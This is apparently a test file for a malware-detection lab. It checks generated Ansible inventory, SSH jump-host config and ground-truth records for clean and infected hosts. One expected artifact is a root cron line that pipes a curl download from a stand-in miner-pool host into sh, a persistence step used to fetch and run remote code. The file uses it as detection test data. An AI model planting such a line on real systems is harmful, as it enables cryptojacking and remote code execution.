import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { groundTruth, inventoryYaml, knownHosts, labFiles, sshConfig } from '../../../src/lab/inventory.js';
import { fixtureLab, opts } from './lab-fixture.js';


describe('lab inventory and ground truth', () => {
  const lab = fixtureLab();
  it('writes an Ansible inventory without the pool, hidden hosts behind ProxyJump', () => {
    const files = labFiles(opts.dir);
    const inv = parse(inventoryYaml(lab, files)) as { all: { vars: Record<string, string>; hosts: Record<string, Record<string, string>>; children: Record<string, { hosts: Record<string, null>; vars?: Record<string, string> }> } };
    expect(inv.all.vars.ansible_user).toBe('root');
    expect(inv.all.vars.ansible_ssh_private_key_file).toBe('/var/lib/minesweep/lab-u/id_ed25519');
    expect(inv.all.vars.ansible_ssh_common_args).toBe('-o UserKnownHostsFile=/var/lib/minesweep/lab-u/known_hosts -o StrictHostKeyChecking=yes');
    expect(inv.all.hosts.pool).toBeUndefined();
    expect(inv.all.hosts.h03).toEqual({ ansible_host: '198.18.4.13', lab_scenario: 'redis' });
    expect(Object.keys(inv.all.children.web!.hosts)).toContain('h01');
    expect(inv.all.children.hidden!.vars!.ansible_ssh_common_args).toMatch(/-o ProxyJump=root@198\.18\.4\.11$/);
    expect(sshConfig(lab, files)).toContain('Host hidden01\n  HostName 198.18.104.11\n  ProxyJump root@198.18.4.11');
    const kh = knownHosts(lab, new Map(lab.hosts.map((h) => [h.name, `ssh-ed25519 KEY${h.name}`])));
    expect(kh.split('\n')).toContain('198.18.4.254 ssh-ed25519 KEYpool');
  });

  it('writes ground truth: clean hosts expect nothing, infected ones list artifacts and a family', () => {
    const t = groundTruth(lab, labFiles(opts.dir), 'pw', new Date(0));
    expect(t.lab.poolAddress).toBe('198.18.4.254');
    expect(t.lab.hiddenSubnet).toBe('198.18.104.0/24');
    expect(t.hosts.find((h) => h.name === 'pool')).toBeUndefined();
    for (const h of t.hosts) {
      if (h.scenario === 'clean' || h.scenario === 'clean-busy') {
        expect(h.expectFindings).toBe(false);
        expect(h.family).toBeNull();
        expect(h.artifacts.every((a) => a.legitimate)).toBe(true);
      } else {
        expect(h.expectFindings).toBe(true);
        expect(h.family).toBeTruthy();
        expect(h.artifacts.filter((a) => !a.legitimate).length).toBeGreaterThan(0);
      }
    }
    const redis = t.hosts.find((h) => h.scenario === 'redis')!;
    expect(redis.artifacts).toContainEqual({ kind: 'cron-line', path: '/var/spool/cron/crontabs/root', line: '*/5 19-23,0-7 * * * curl -fsSL http://pm.cpuminerpool.invalid:8080/api/report?pm=0798 | sh' });
    expect(t.users.ops.password).toBe('pw');
  });
});
